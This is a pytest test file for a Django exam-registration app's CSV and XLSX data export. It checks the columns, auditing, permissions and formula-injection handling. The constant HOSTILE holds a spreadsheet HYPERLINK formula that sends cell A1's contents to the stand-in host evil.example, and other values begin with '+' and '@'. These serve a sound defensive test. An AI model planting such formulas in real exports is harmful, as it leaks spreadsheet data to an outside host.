"""M4 « Déchargement »: the unload's rows and columns match the database, a hostile value
stays text in CSV and XLSX, the documented format matches the columns, every unload is
audited, and the consultation role cannot unload."""

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from inscrinet.models import AuditEvent, DataUnload, Dossier, DossierState, Session, TransferState
from inscrinet.selectors.unload import UNLOAD
from tests.candidates.journey import accrall_steps
from tests.factories import submit_dossier, validate_steps
from tests.management.dec import logged_in, url
from tests.support.tasks import run_worker

pytestmark = pytest.mark.django_db
DOC = Path(__file__).resolve().parents[2] / "docs" / "formats" / "dechargement.md"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"clic")'


@pytest.fixture
def session_with_dossiers(demo):
    session = Session.objects.get(
        exam__code="CAP", academie__name="Toulouse", candidate_access="numero"
    )
    steps = accrall_steps()
    first = validate_steps(session, steps)
    steps["adresse"] = {**steps["adresse"], "line1": HOSTILE}
    steps["etat_civil"] = {**steps["etat_civil"], "first_names": "+Jean", "birth_name": "@SUM"}
    validate_steps(session, steps)
    return session, first


def csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_csv_rows_and_columns_match_the_database(client, session_with_dossiers):
    session, first = session_with_dossiers
    logged_in(client, "dec-toulouse")
    response = client.get(url("session_unload_csv", session.pk))
    assert response["Content-Disposition"].startswith("attachment")
    rows = csv_rows(response)
    assert len(rows) == Dossier.objects.filter(session=session).count() == 2
    assert list(rows[0]) == [c.header for c in UNLOAD.columns]
    dossier = first.dossier
    row = rows[0]
    assert row["numero_dossier"] == str(dossier.number)
    assert row["numero_candidat"] == dossier.candidate_number
    assert row["etat"] == DossierState(dossier.state).label
    assert row["nom_naissance"] == "ACCRALL" and row["prenoms"] == "Dack"
    assert row["specialite_code"] == dossier.specialty.code
    # Épreuves with positions and modes, as the récapitulatif shows them (seed 004).
    epreuves = dict(e.split(":", 1) for e in row["epreuves"].split("|"))
    assert epreuves["EG5"].startswith("Dispense")
    assert re.match(r"Inscrit:\w+", epreuves["EP1"])
    # A value a spreadsheet would run stays text.
    hostile = rows[1]
    assert hostile["adresse_ligne1"] == "'" + HOSTILE
    assert hostile["prenoms"] == "'+Jean" and hostile["nom_naissance"] == "'@SUM"
    audit = AuditEvent.objects.get(action="dechargement.csv")
    assert audit.details["lignes"] == 2 and audit.user.username == "dec-toulouse"


def test_xlsx_is_built_by_a_task_and_keeps_text_as_text(client, session_with_dossiers):
    session, _ = session_with_dossiers
    logged_in(client, "dec-toulouse")
    response = client.post(url("session_unload", session.pk))
    unload = DataUnload.objects.get()
    assert response["Location"] == url("unload", unload.pk)
    assert "Préparation en cours" in client.get(response["Location"]).content.decode()
    run_worker()
    unload.refresh_from_db()
    assert (unload.state, unload.total) == (TransferState.DONE, 2)
    download = client.get(url("unload_download", unload.pk))
    workbook = load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    sheet = workbook.active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == [c.header for c in UNLOAD.columns]
    assert len(rows) == 3
    line1 = rows[0].index("adresse_ligne1")
    cell = sheet.cell(row=3, column=line1 + 1)
    assert cell.value == HOSTILE and cell.data_type == "s"
    assert AuditEvent.objects.filter(action="dechargement.xlsx").count() == 1


def test_preparer_clicked_twice_prepares_one_file(client, session_with_dossiers):
    """A double click (or the request posted again) while the file is prepared: the same
    unload, one task, one journal row; once it is done, a new request prepares a new one."""
    session, _ = session_with_dossiers
    logged_in(client, "dec-toulouse")
    first = client.post(url("session_unload", session.pk))
    second = client.post(url("session_unload", session.pk))
    assert first["Location"] == second["Location"]
    assert DataUnload.objects.count() == 1
    assert AuditEvent.objects.filter(action="dechargement.xlsx").count() == 1
    run_worker()
    client.post(url("session_unload", session.pk))
    assert DataUnload.objects.count() == 2  # the first one finished: asked again, on purpose
    # One stuck for longer than a double click never blocks a new request.
    stuck = DataUnload.objects.filter(state=TransferState.WAITING).get()
    DataUnload.objects.filter(pk=stuck.pk).update(
        created_at=stuck.created_at - datetime.timedelta(minutes=5)
    )
    client.post(url("session_unload", session.pk))
    assert DataUnload.objects.count() == 3


def test_the_documented_format_lists_every_column_in_order():
    documented = re.findall(r"^\| (\w+) \|", DOC.read_text(encoding="utf-8"), re.MULTILINE)
    assert [c for c in documented if c != "Colonne"] == [c.header for c in UNLOAD.columns]


def test_consultation_cannot_unload_and_another_academie_gets_404(client, demo):
    session = Session.objects.get(exam__code="CAP", academie__code="022")
    submit_dossier(session)
    logged_in(client, "dec-limoges-consultation")
    assert client.get(url("session_unload_csv", session.pk)).status_code == 403
    assert client.post(url("session_unload", session.pk)).status_code == 403
    client.logout()
    logged_in(client, "dec-toulouse")
    assert client.get(url("session_unload_csv", session.pk)).status_code == 404
    assert not AuditEvent.objects.filter(action__startswith="dechargement").exists()


def test_the_command_writes_both_formats(session_with_dossiers, tmp_path):
    from django.core.management import call_command

    session, _ = session_with_dossiers
    call_command("unload_session", session=session.pk, format="csv", output=tmp_path / "a.csv")
    call_command("unload_session", session=session.pk, format="xlsx", output=tmp_path / "a.xlsx")
    text = (tmp_path / "a.csv").read_text(encoding="utf-8-sig")
    assert len(text.strip().splitlines()) == 3
    assert load_workbook(tmp_path / "a.xlsx").active.max_row == 3
    assert AuditEvent.objects.filter(action__startswith="dechargement").count() == 2
